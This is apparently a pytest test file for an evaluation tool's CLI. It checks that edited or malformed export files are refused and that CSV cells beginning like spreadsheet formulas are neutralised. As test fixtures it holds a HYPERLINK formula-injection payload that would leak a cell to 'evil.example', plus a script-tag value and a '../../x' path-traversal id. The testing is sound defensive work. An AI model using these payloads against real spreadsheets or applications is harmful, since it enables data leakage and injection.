"""Hostile export files and CSV cells: an edited or out-of-range export, or one with
unknown fields, is refused on import; a cell that a spreadsheet would run as a formula is neutralised.

Every refused action leaves the store byte for byte as it was, and no input gives a traceback: the CLI
prints ``Error: …`` naming the file and field and exits 1 (2 for a bad option, as click does).
"""

from __future__ import annotations

import json
import shutil

import pytest
from helpers import FIXTURES
from helpers.cli import CORPUS_SMALL, evals, stored_store
from helpers.corpora import conversation
from helpers.errors import one_line_error
from helpers.hostile import corpus_of, csv_rows, exported_run, refused_import, write_json
from helpers.stores import files_beside

from evals.store import Store

# -- 1. imports are checked ---------------------------------------------------------------------


def tampered(document: dict) -> dict:
    """``document`` with one turn of its transcript edited, its corpus digest left as it was."""
    turns = document["run"]["conversations"][0]["turns"]
    turns[0]["content"] = "<b>an edited turn</b> " + turns[0]["content"]
    return document


def test_edited_transcript_is_refused_after_a_genuine_run(tmp_path):
    """An export whose transcript was edited (digest kept) is refused: recomputing the digest shows the edit."""
    store = stored_store(tmp_path / "store")
    document = tampered(exported_run(tmp_path))
    line = refused_import(store, document, tmp_path)
    digest = document["run"]["corpus_digest"]
    assert line.startswith(f"Error: {tmp_path / 'import.json'}: run.corpus_digest {digest[:12]}… does not match")
    assert line.endswith("the file was altered, so it is not imported")


def test_edited_transcript_is_refused_into_an_empty_store(tmp_path):
    """In the other order (the edit first) it is refused too, so a later genuine run shows genuine text."""
    store = tmp_path / "empty" / "results.duckdb"
    store.parent.mkdir()
    line = refused_import(store, tampered(exported_run(tmp_path)), tmp_path)
    assert "does not match the file's conversations" in line
    assert not store.exists()


def test_corpus_stored_under_the_digest_must_be_identical(tmp_path):
    """A store that already holds different text under a digest (an import made before imports were
    checked) refuses a genuine import of that digest instead of mixing the two."""
    from dataclasses import replace

    from evals.views.exchange import read_export

    document = exported_run(tmp_path)
    genuine = write_json(tmp_path / "genuine.json", document)
    record = read_export(genuine)
    edited = record.conversations[0].model_copy(deep=True)
    edited.turns[0].content = "an edited turn"
    forged = replace(record, conversations=[edited, *record.conversations[1:]])
    forged = replace(forged, summary=replace(forged.summary, run_id="0123456789ab"))
    store = tmp_path / "old" / "results.duckdb"
    store.parent.mkdir()
    with Store.open(store) as opened:
        opened.write_records([forged])
    line = refused_import(store, document, tmp_path)
    cid = record.conversations[0].id
    assert line == (
        f"Error: {tmp_path / 'import.json'}: run {record.summary.run_id} is on corpus {document['run']['corpus_digest'][:12]}, "
        f"but the store holds different text under that digest (conversation {cid!r}, turn 0); refusing to mix them"
    )


@pytest.mark.parametrize(
    "edit, expected",
    [
        (
            lambda d: d["run"].update(timestamp="9999-12-31T00:00:00+00:00"),
            "run.timestamp: 9999-12-31T00:00:00+00:00 is in the future",
        ),
        (lambda d: d.update(k=-5), "k: must be at least 1, got -5"),
        (lambda d: d.update(k=2**31), "k: must be at most 2147483647, got 2147483648"),
        (lambda d: d.update(seed=2**63), "seed: must be at most 9223372036854775807, got 9223372036854775808"),
        (lambda d: d["run"].update(duration_s=-1.0), "run.duration_s: must be at least 0, got -1.0"),
        (
            lambda d: d["run"].update(corpus_digest="zz"),
            "run.corpus_digest: expected a sha256 (64 lower-case hex digits), got 'zz'",
        ),
        (lambda d: d["run"].update(run_id="../../x"), "run.run_id: expected a run id (12 lower-case hex digits), got '../../x'"),
        (
            lambda d: d["run"].update(commit="<script>alert(1)</script>"),
            "run.commit: expected a git commit (40 or 64 lower-case hex digits) or 'no-git', got '<script>alert(1)</script>'",
        ),
        (
            lambda d: d["run"]["conversations"][0]["test_points"][0].update(record_tokens=[-3]),
            "run.conversations[0].test_points[0].record_tokens[0]: must be at least 0, got -3",
        ),
        (lambda d: d["run"].update(cache_hits=-1), "run.cache_hits: must be at least 0, got -1"),
    ],
)
def test_out_of_range_fields_are_refused(tmp_path, edit, expected):
    """Each field of an export is range-checked; a bad one refuses the whole import, naming file and field."""
    store = stored_store(tmp_path / "store")
    document = exported_run(tmp_path)
    edit(document)
    line = refused_import(store, document, tmp_path)
    assert line.startswith(f"Error: {tmp_path / 'import.json'}: not a valid evals export: {expected}"), line


def test_nan_duration_is_refused(tmp_path):
    """``duration_s: NaN`` (which Python's json accepts) is refused at its path."""
    store = stored_store(tmp_path / "store")
    document = exported_run(tmp_path)
    path = tmp_path / "import.json"
    text = json.dumps(document).replace(f'"duration_s": {json.dumps(document["run"]["duration_s"])}', '"duration_s": NaN')
    assert "NaN" in text
    path.write_text(text, encoding="utf-8")
    before = files_beside(store)
    assert one_line_error(evals("import", path, "--store", store)) == f"Error: {path}: NaN is not a number JSON allows"
    assert files_beside(store) == before


def test_answers_are_range_checked(tmp_path):
    """An export's answers are checked as well: a negative token count is refused."""
    from evals.store import StoreError
    from evals.views.exchange import read_export

    document = exported_run(tmp_path)
    document["answers"] = {"answer_model": "m", "judge_model": None, "base_url": "http://x", "settings": {}}
    document["metrics"]["answers"] = {"requests_made": 0, "requests_cached": 0, "prompt_tokens": 0, "completion_tokens": 0}
    for conv in document["conversations"]:
        for point in conv["test_points"]:
            point["answer"] = {"answer": "a", "prompt_tokens": -1, "completion_tokens": 0, "latency_s": 0.1, "keyword_hit": False}
    path = write_json(tmp_path / "import.json", document)
    with pytest.raises(
        StoreError, match=r"conversations\[0\]\.test_points\[0\]\.answer\.prompt_tokens: must be at least 0, got -1"
    ):
        read_export(path)


def test_genuine_exports_of_every_golden_run_still_import(tmp_path):
    """Every run of the schema-5 golden store (written by an earlier version) exports and imports
    unchanged: the recomputed digest matches what that version stored."""
    import gzip

    from evals.views.exchange import export_document

    old = tmp_path / "schema5.duckdb"
    with gzip.open(FIXTURES / "stores" / "schema5.duckdb.gz") as packed, old.open("wb") as out:
        shutil.copyfileobj(packed, out)
    Store.upgrade(old)
    with Store.open(old, read_only=True) as store:
        documents = [export_document(store.get_run(s.run_id)) for s in store.runs()]
    paths = [write_json(tmp_path / f"run{i}.json", d) for i, d in enumerate(documents)]
    result = evals("import", *paths, "--store", tmp_path / "new.duckdb")
    assert result.exit_code == 0, result.output
    assert result.output.count("imported run") == len(documents) == 5


# -- 2. CSV formula injection -------------------------------------------------------------------

FORMULA = '=HYPERLINK("evil.example?leak="&A1,"click")'  # a folder name: no slash


@pytest.fixture
def formula_store(tmp_path):
    """A store with one run on a corpus whose folder name is a formula, category '@SUM(1)', seed -7."""
    data = conversation()
    data["turns"][1]["test_at"]["category"] = "@SUM(1)"
    corpus = corpus_of(tmp_path / FORMULA, data)
    store = tmp_path / "results.duckdb"
    result = evals("run", "--runner", "no_memory", "--corpus", corpus, "--store", store, "--seed", "-7")
    assert result.exit_code == 0, result.output
    return store


def test_site_leaderboard_csv_cells_are_neutralised(formula_store, tmp_path):
    """site/leaderboard.csv writes a formula-like corpus name with a leading quote; numbers stay numbers."""
    result = evals("build-site", "--store", formula_store, "--out", tmp_path / "site")
    assert result.exit_code == 0, result.output
    (row,) = csv_rows((tmp_path / "site" / "leaderboard.csv").read_text(encoding="utf-8"))
    assert row["corpus_name"] == "'" + FORMULA
    assert row["keyword_hit_at_k"] == "0.0" and row["k"] == "5"  # keyword recall, renamed


@pytest.mark.parametrize("command", [["runs"], ["leaderboard"]])
def test_cli_csv_cells_are_neutralised(formula_store, command):
    """`evals runs|leaderboard --format csv`: text cells that start like a formula are neutralised, numbers are not."""
    result = evals(*command, "--format", "csv", "--store", formula_store)
    assert result.exit_code == 0, result.output
    (row,) = csv_rows(result.output)
    assert row["corpus_name"] == "'" + FORMULA
    assert row["seed"] == "-7" and row["recall"] == "0.0"


def test_by_category_csv_cells_are_neutralised(formula_store):
    """`evals leaderboard --by-category --format csv`: a category '@SUM(1)' is written as text."""
    result = evals("leaderboard", "--by-category", "--format", "csv", "--store", formula_store)
    assert result.exit_code == 0, result.output
    (row,) = csv_rows(result.output)
    assert row["category"] == "'@SUM(1)" and row["corpus"] == "'" + FORMULA


def test_judge_model_csv_cell_is_neutralised(tmp_path):
    """A --judge-model that reads as a formula is written as text in `runs --format csv` and leaderboard.csv."""
    from helpers.llm_server import LLMServer

    store = tmp_path / "results.duckdb"
    with LLMServer() as server:
        result = evals(
            "run", "--runner", "recency", "--corpus", CORPUS_SMALL, "--store", store, "--base-url", server.base_url,
            "--judge", "--judge-model", "+SUM(1)", env={"EVALS_LLM_BACKOFF": "0.01", "OPENAI_API_KEY": "sk-unused-0000"},
        )
    assert result.exit_code == 0, result.output
    (row,) = csv_rows(evals("runs", "--format", "csv", "--store", store).output)
    assert row["judge_model"] == "'+SUM(1)"
    assert evals("build-site", "--store", store, "--out", tmp_path / "site").exit_code == 0
    (row,) = csv_rows((tmp_path / "site" / "leaderboard.csv").read_text(encoding="utf-8"))
    assert row["judge_model"] == "'+SUM(1)"


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@A1", "\tx", "\rx"])
def test_csv_cell_rule(text):
    """OWASP's rule: a text cell starting with = + - @ tab or CR gets a leading quote; numbers never."""
    from evals.model.formatting import csv_cell

    assert csv_cell(text) == "'" + text
    assert csv_cell(-1) == -1 and csv_cell(-0.5) == -0.5 and csv_cell("plain") == "plain" and csv_cell(None) is None


# -- unknown fields in an import file are refused -------------------------------


@pytest.mark.parametrize(
    "edit, where",
    [
        (lambda d: d.__setitem__("comment", "hi"), "comment"),
        (lambda d: d["run"].__setitem__("note", 1), "run.note"),
        (lambda d: d["run"]["conversations"][0]["turns"][0].__setitem__("speaker", "x"), "run.conversations[0].turns[0].speaker"),
        (lambda d: d["conversations"][0]["test_points"][0].__setitem__("score", 1), "conversations[0].test_points[0].score"),
        (lambda d: d["metrics"]["recall_at_k"].__setitem__("extra", 1), "metrics.recall_at_k.extra"),
    ],
    ids=["top-level", "run-block", "run-turn", "test-point", "metrics"],
)
def test_unknown_key_in_an_import_file_is_refused(tmp_path, store, edit, where):
    """A key an export does not define, anywhere in the file, is refused naming the file and its JSON path."""
    document = exported_run(tmp_path)
    edit(document)
    line = refused_import(store, document, tmp_path)
    assert f"{tmp_path / 'import.json'}: " in line and f"{where}: unknown field" in line, line


def test_unknown_measured_metric_in_an_import_file_is_refused(tmp_path, store):
    """run.measured naming a metric this evals does not know is refused, not dropped."""
    document = exported_run(tmp_path)
    document["run"]["measured"]["made_up_metric"] = {"value": 1.0, "n": 1, "low": None, "high": None}
    assert "run.measured.made_up_metric: 'made_up_metric' is not a metric" in refused_import(store, document, tmp_path)


def test_unknown_key_in_a_measured_value_is_one_line(tmp_path, store):
    """An extra key inside a run.measured value is refused in one line (it was a TypeError traceback)."""
    document = exported_run(tmp_path)
    name = next(iter(document["run"]["measured"]))
    document["run"]["measured"][name]["extra"] = 1
    assert f"run.measured.{name}.extra: unknown field" in refused_import(store, document, tmp_path)


def test_exports_written_by_an_earlier_version_still_import(tmp_path):
    """The files `evals export` wrote at 44774b5 (tests/fixtures/exports) have no key today's import calls unknown."""
    import tarfile

    with tarfile.open(FIXTURES / "exports" / "exports-44774b5.tar.gz") as archive:
        archive.extractall(tmp_path / "old", filter="data")
    files = sorted((tmp_path / "old").glob("*.json"))
    result = evals("import", *files, "--store", tmp_path / "new.duckdb")
    assert result.exit_code == 0, result.output
    assert result.output.count("imported run") == len(files) == 5
